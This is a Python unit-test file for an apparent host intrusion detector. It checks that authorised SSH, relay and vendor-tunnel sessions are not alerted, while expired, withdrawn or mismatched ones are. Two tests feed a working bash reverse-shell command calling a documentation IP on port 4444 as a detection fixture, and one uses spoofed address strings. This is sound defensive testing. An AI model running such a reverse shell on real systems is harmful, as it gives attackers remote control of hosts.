"""What is allowed is shown and not alerted; what is allowed no longer is alerted then. The same facts and acts say the
same in any batches, and also with the mind written down and read back between them (`Verdicts` holds both together).
"""

import random
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest

from tests.unit.host.judge.recording import OUTSIDE, SSHD, START, Recording, Verdicts, ssh_through_a_relay
from wachhund.judge.fact import Fact
from wachhund.ledger import Authorisation, AuthorisationAct

VISITOR = "203.0.113.7"
TWO_HOURS = Authorisation(
    "a1", "anna", None, ("ssh",), (f"{VISITOR}/32",), "internet", START - 60, START + 7_200, "repairs the gait", "bert",
    START - 60,
)  # fmt: skip
BY_RELAY = replace(TWO_HOURS, carrier="relay")
Told = Fact | AuthorisationAct


def made(one: Authorisation, t: float = START - 60) -> AuthorisationAct:
    """It was made."""
    return AuthorisationAct(1, "made", t, one.author, one.why, 0, 0, one)


def ended(one: Authorisation, t: float) -> AuthorisationAct:
    """It was withdrawn."""
    gone = replace(one, until_t=t, ended_by="carl", ended_why="done")
    return AuthorisationAct(2, "ended", t, "carl", "done", 0, 0, gone)


def over(one: Authorisation, t: float) -> AuthorisationAct:
    """The host noticed that it is over."""
    return AuthorisationAct(3, "over", t, "the host", "", 0, 0, one)


def ssh_from_outside(address: str = VISITOR) -> Recording:
    """Somebody logs in from the internet; then the robot goes on."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.process(900, SSHD, line=(100,))
    scene.accept(900, 22, address)
    scene.ssh_login(100, 900)
    return scene


def time_passes(scene: Recording, seconds: float) -> None:
    """The robot says that it is alive, and no more."""
    scene.wait(seconds)
    scene.tell("heartbeat")


def told(told: list[Told]) -> Verdicts:
    """What the judge says, in one batch, in small ones, and by heart."""
    whole = Verdicts(told)  # type: ignore[arg-type]
    for batch in (1, 3):
        cut = Verdicts(told, batch=batch)  # type: ignore[arg-type]
        assert (cut.incidents, cut.sessions) == (whole.incidents, whole.sessions)
    return whole


def the_session(verdicts: Verdicts) -> dict[str, Any]:
    (session,) = verdicts.sessions.values()
    return session


@pytest.mark.parametrize(
    ("scene", "one"), [(ssh_from_outside(), TWO_HOURS), (ssh_through_a_relay(), BY_RELAY)], ids=["direct", "relay"]
)
def test_what_was_allowed_ahead_is_shown_and_not_alerted(scene: Recording, one: Authorisation) -> None:
    """An alert for what somebody announced teaches people to look away."""
    verdicts = told([made(one), *scene.facts])
    assert verdicts.incidents == {}
    session = the_session(verdicts)
    wanted = {"id": "a1", "who": "anna", "until_t": START + 7_200, "why": "repairs the gait"}
    assert session["authorisation"] == wanted
    assert session["incident"] is None
    assert session["user"] == "pi"


@pytest.mark.parametrize(
    "one",
    [
        replace(TWO_HOURS, sources=("203.0.113.8/32",)),
        replace(TWO_HOURS, surfaces=("web",)),
        replace(TWO_HOURS, carrier="relay"),
        replace(TWO_HOURS, robots=("another",)),
        replace(TWO_HOURS, from_t=START + 3_600),
        replace(TWO_HOURS, until_t=START - 1),
    ],
    ids=["address", "surface", "carrier", "robot", "not yet", "over"],
)
def test_one_that_differs_in_anything_allows_nothing(one: Authorisation) -> None:
    verdicts = told([made(one), *ssh_from_outside().facts])
    assert verdicts.only["state"] == "open"
    assert verdicts.only["kind"] == "remote-control"
    assert the_session(verdicts)["authorisation"] is None


def test_an_open_incident_closes_itself_and_says_which_when_and_by_whom() -> None:
    """Allowed on the spot: the story keeps who said so."""
    scene = ssh_from_outside()
    verdicts = told([*scene.facts, made(TWO_HOURS, START + 30)])
    incident = verdicts.only
    assert (incident["state"], incident["close_reason"]) == ("closed", "allowed")
    last = incident["story"][-1]
    assert "Closed by itself" in last
    for word in ("authorisation a1 of anna", "made by bert on 2023-11-14", "until 2023-11-15", "repairs the gait"):
        assert word in last
    assert incident["sessions"][0]["authorisation"]["id"] == "a1"


def test_a_closed_one_stays_closed_while_the_allowed_session_goes_on() -> None:
    """Each program that the visitor starts belongs to the story; none of them is news."""
    scene = ssh_from_outside()
    before = list(scene.facts)
    scene.process(950, "/usr/bin/htop", user="pi", line=(903, 900, 100))
    verdicts = told([*before, made(TWO_HOURS, START + 1), *scene.facts[len(before) :]])
    assert (verdicts.only["state"], verdicts.only["came_back"]) == ("closed", False)
    assert any("htop was started" in line for line in verdicts.only["story"])


@pytest.mark.parametrize("how", ["a fact", "the host"])
def test_when_it_ends_while_the_session_goes_on_it_is_alerted_then(how: str) -> None:
    """Facts make time pass; for a robot that is silent, the host says that the time is over."""
    scene = ssh_from_outside()
    facts: list[Told] = [made(TWO_HOURS), *scene.facts]
    time_passes(scene, 7_100)
    assert told([made(TWO_HOURS), *scene.facts]).incidents == {}
    if how == "a fact":
        time_passes(scene, 200)
        verdicts = told([made(TWO_HOURS), *scene.facts])
    else:
        verdicts = told([*facts, over(TWO_HOURS, START + 7_260)])
    incident = verdicts.only
    assert (incident["state"], incident["kind"], incident["level"]) == ("open", "remote-control", "high")
    assert incident["first_t"] < START + 10
    assert any("A session on ssh (port 22) began" in line for line in incident["story"])
    assert any("allowed no longer: authorisation a1" in line for line in incident["story"])
    session = the_session(verdicts)
    assert (session["authorisation"], session["incident"]) == (None, incident["id"])


def test_one_that_goes_on_under_another_is_not_alerted() -> None:
    """Who makes the next one in time is not woken."""
    scene = ssh_from_outside()
    time_passes(scene, 8_000)
    longer = replace(TWO_HOURS, id="a2", until_t=START + 20_000)
    verdicts = told([made(TWO_HOURS), made(longer), *scene.facts])
    assert verdicts.incidents == {}
    assert the_session(verdicts)["authorisation"]["id"] == "a2"


def test_a_session_that_ended_in_time_stays_allowed() -> None:
    """The end of an authorisation says nothing about yesterday."""
    scene = ssh_from_outside()
    scene.close("f-1")
    time_passes(scene, 9_000)
    verdicts = told([made(TWO_HOURS), *scene.facts])
    assert verdicts.incidents == {}
    assert the_session(verdicts)["authorisation"]["id"] == "a1"


def test_a_withdrawn_one_is_alerted_at_once_and_a_new_one_closes_it_again() -> None:
    """One incident through all of it: it comes back, and goes, and says so."""
    scene = ssh_from_outside()
    first: list[Told] = [*scene.facts, made(TWO_HOURS, START + 10), ended(TWO_HOURS, START + 20)]
    verdicts = told(first)
    assert (verdicts.only["state"], verdicts.only["close_reason"], verdicts.only["came_back"]) == ("open", None, True)
    again = replace(TWO_HOURS, id="a5", made_t=START + 30)
    verdicts = told([*first, made(again, START + 30)])
    assert (verdicts.only["state"], verdicts.only["close_reason"]) == ("closed", "allowed")


def test_a_relay_that_is_only_there_is_covered_by_its_name_and_by_no_surface_alone() -> None:
    """Who may log in has not thereby been given a tunnel."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(5)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812)
    everybody = replace(TWO_HOURS, surfaces=None, sources=None, carrier=None)
    assert told([made(everybody), *scene.facts]).only["state"] == "open"
    named = replace(TWO_HOURS, surfaces=None, carrier="relay")
    assert told([made(named), *scene.facts]).incidents == {}


def vendor_tunnel() -> Recording:
    """The vendor's tunnel runs and is connected; nobody comes."""
    scene = Recording()
    scene.coverage()
    scene.process(812, "/home/pi/cloudsail/csclient", ["./csclient"])
    scene.dial(812)
    return scene


def test_a_named_tunnel_is_allowed_by_its_name_and_told_when_that_ends() -> None:
    """The rule matched hours ago and will not match again: the story must have been kept."""
    scene = vendor_tunnel()
    one = replace(TWO_HOURS, surfaces=(), sources=None, carrier="CloudSail")
    assert told([made(one), *scene.facts]).incidents == {}
    time_passes(scene, 7_300)
    incident = told([made(one), *scene.facts]).only
    assert (incident["kind"], incident["tunnel"], incident["state"]) == ("tunnel", "CloudSail", "open")


def test_a_named_tunnels_own_local_listener_is_part_of_it_and_an_open_one_is_told() -> None:
    """CloudSail's worker listens on loopback for its daemon; on all addresses it would be a new door."""
    one = replace(TWO_HOURS, surfaces=(), sources=None, carrier="CloudSail")
    scene = vendor_tunnel()
    scene.listen(25_484, 812, "/home/pi/cloudsail/csclient", "127.0.0.1")
    assert told([made(one), *scene.facts]).incidents == {}
    scene.listen(9_000, 812, "/home/pi/cloudsail/csclient")
    incident = told([made(one), *scene.facts]).only
    assert incident["state"] == "open"
    assert incident["title"] == "A new listener behind a session or tunnel that is allowed"


def test_a_session_through_the_vendors_tunnel_is_allowed_by_the_tunnels_name() -> None:
    """The tunnel dials, somebody logs in through it: with its name on record, shown and not alerted; with another
    tunnel's, one incident as ever."""
    scene = vendor_tunnel()
    csclient = "/home/pi/cloudsail/csclient"
    scene.listen(25_484, 812, csclient, "127.0.0.1")
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.wait(5)
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(812, 900, 22)
    scene.relay("f-1", inner, 812)
    scene.ssh_login(100, 900)
    scene.relay("f-1", inner, 812, "relay")
    verdicts = told([made(replace(TWO_HOURS, carrier="cloudsail")), *scene.facts])
    assert verdicts.incidents == {}
    session = the_session(verdicts)
    assert (session["tunnel"], session["carrier"]) == ("CloudSail", "relay")
    assert session["authorisation"]["id"] == "a1"
    incident = told([made(replace(TWO_HOURS, carrier="NPS")), *scene.facts]).only
    assert incident["title"] == "Remote control not allowed: ssh as pi through CloudSail"


def test_a_relay_that_starts_an_allowed_tunnels_program_beside_it_is_none_of_it() -> None:
    """Anybody can run `frpc -v`. The name is that process's, and not that of who came in through another."""
    scene = ssh_through_a_relay()
    time_passes(scene, 200)
    scene.process(950, "/tmp/frpc", ["/tmp/frpc", "-v"], line=(812,))
    time_passes(scene, 60)
    one = replace(TWO_HOURS, surfaces=None, sources=None, carrier="frp")
    incident = told([made(one), *scene.facts]).only
    assert (incident["state"], incident["level"]) == ("open", "critical")
    assert incident["sessions"][0]["authorisation"] is None and incident["tunnel"] is None


def test_a_tunnels_worker_of_the_same_program_is_that_tunnel() -> None:
    """CloudSail's client forks the one that dials: it is found by its parent, which the rule named."""
    scene = vendor_tunnel()
    csclient = "/home/pi/cloudsail/csclient"
    scene.process(813, csclient, line=(812,))
    outer = scene.dial(813)
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.wait(5)
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(813, 900, 22)
    scene.relay(outer, inner, 813)
    scene.ssh_login(100, 900)
    assert told([made(replace(TWO_HOURS, carrier="cloudsail")), *scene.facts]).incidents == {}


def test_a_tunnel_that_was_gone_when_its_authorisation_ended_is_not_told() -> None:
    """Nothing is there any more that could be allowed or not."""
    scene = vendor_tunnel()
    one = replace(TWO_HOURS, surfaces=(), sources=None, carrier="CloudSail")
    scene.close("f-1")
    scene.tell("process.exit", puid="812-9", pid=812)
    time_passes(scene, 600)
    time_passes(scene, 7_000)
    assert told([made(one), *scene.facts]).incidents == {}


def test_a_tunnel_of_an_earlier_boot_is_not_there_any_more() -> None:
    """Nobody told its end: the system was started anew."""
    scene = vendor_tunnel()
    one = replace(TWO_HOURS, surfaces=(), sources=None, carrier="CloudSail")
    before = [replace(fact, boot="b1") for fact in scene.facts]
    time_passes(scene, 60)
    time_passes(scene, 7_300)
    after = [replace(fact, boot="b2") for fact in scene.facts[len(before) :]]
    assert told([made(one), *before, *after]).incidents == {}


def test_somebody_else_through_the_same_relay_is_alerted() -> None:
    """The one who is allowed must not be the other's cloak; the title is about the other."""
    scene = ssh_through_a_relay()
    scene.listen(80, 120, "/usr/sbin/nginx")
    inner, _ = scene.within(812, 120, 80)
    scene.relay("f-1", inner, 812, "relay")
    incident = told([made(BY_RELAY), *scene.facts]).only
    assert incident["state"] == "open"
    assert incident["surface"] == "web"
    assert [one["authorisation"] is None for one in incident["sessions"]] == [False, True]


def test_what_an_allowed_visitor_does_is_judged_by_itself() -> None:
    """Somebody may log in; a reverse shell is another matter, and its title says that and no more."""
    scene = ssh_from_outside()
    scene.process(
        960, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"], user="pi", line=(903, 900, 100)
    )
    incident = told([made(TWO_HOURS), *scene.facts]).only
    assert "Reverse shell" in incident["title"]
    assert "Remote control not allowed: ssh" not in incident["title"]


def test_a_rule_that_matched_before_keeps_the_incident_open_under_its_own_name() -> None:
    """What was done does not become allowed with the session; but the session is no longer called forbidden."""
    scene = ssh_from_outside()
    scene.process(
        960, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"], user="pi", line=(903, 900, 100)
    )
    before = told(list(scene.facts)).only
    incident = told([*scene.facts, made(TWO_HOURS, START + 30)]).only
    assert incident["id"] == before["id"]
    assert incident["state"] == "open"
    assert incident["title"] == "Reverse shell by its command, with a session or tunnel that is allowed"


def test_an_unknown_origin_is_covered_only_where_no_address_is_demanded() -> None:
    """Not known is not the same as the right one."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.process(900, SSHD, line=(100,))
    scene.within(7_777, 900, 22, told_peer=False)
    time_passes(scene, 5)
    demanding = replace(TWO_HOURS, carrier=None)
    assert told([made(demanding), *scene.facts]).only["state"] == "open"
    assert told([made(replace(demanding, sources=None)), *scene.facts]).incidents == {}


def test_a_clock_that_was_set_forward_and_back_ends_nothing_for_good() -> None:
    """Facts from a wrong hour made the authorisation look over; the next act brings the right hour back."""
    scene = ssh_from_outside()
    time_passes(scene, 86_400)
    verdicts = told([made(TWO_HOURS), *scene.facts, made(replace(TWO_HOURS, id="a2"), START + 100)])
    assert (verdicts.only["state"], verdicts.only["close_reason"]) == ("closed", "allowed")


def test_hostile_texts_of_a_robot_do_not_fit_into_an_authorisation() -> None:
    """Names of its own choosing, in each field that is compared."""
    for address in ("203.0.113.7%x", "203.0.113.7/0", "any", "*", ""):
        scene = ssh_from_outside(address)
        for fact in scene.facts:
            if fact.observation.kind == "flow.open":
                fact.observation.fields["scope"] = "internet"  # type: ignore[index]
        verdicts = told([made(TWO_HOURS), *scene.facts])
        assert [one["state"] for one in verdicts.incidents.values()] == ["open"]


def test_the_relays_outer_end_is_the_address_that_counts() -> None:
    assert OUTSIDE[0] == VISITOR
    elsewhere = replace(BY_RELAY, sources=("198.51.100.0/24",))
    assert told([made(elsewhere), *ssh_through_a_relay().facts]).only["state"] == "open"


def shuffled(facts: Sequence[Fact], draw: random.Random) -> list[Told]:
    """A scene as a bad day tells it: facts missing or late, and operators who allow and withdraw meanwhile."""
    kept: list[Told] = [fact for fact in facts if draw.random() > 0.1]
    for _ in range(draw.randrange(4)):
        moved = draw.randrange(len(kept))
        kept.insert(min(len(kept), moved + draw.randrange(6)), kept.pop(moved))
    for number in range(1, draw.randrange(2, 7)):
        one = replace(
            TWO_HOURS, carrier=draw.choice(["relay", "relay", None, "CloudSail", "internet"]),
            id=f"a{draw.randrange(1, 4)}", surfaces=draw.choice([("ssh",), None, ()]),
            sources=draw.choice([None, (f"{VISITOR}/32",)]), from_t=START + draw.choice([-60, 2, 6]),
            until_t=START + draw.choice([4, 7, 7_200]), ended_by=draw.choice([None, None, "carl"]),
        )  # fmt: skip
        act = replace(made(one, START + draw.choice([0, 3, 8, 60])), number=number)
        kept.insert(draw.randrange(len(kept)), act)
    return kept


@pytest.mark.parametrize("seed", range(12))
def test_bad_days_say_the_same_however_they_are_cut_and_nobody_uncovered_is_hidden(seed: int) -> None:
    """No order of facts and acts may let a session that belongs to an incident, and is not allowed, go untold."""
    draw = random.Random(seed)
    scene = draw.choice([ssh_from_outside, ssh_through_a_relay])()
    time_passes(scene, draw.choice([1, 5, 8_000]))
    verdicts = told(shuffled(scene.facts, draw))
    for session in verdicts.sessions.values():
        through = session["carrier"] in ("internet", "relay") and session["surface"] == "ssh"
        if through and session["authorisation"] is None:
            assert verdicts.incidents[session["incident"]]["state"] == "open"
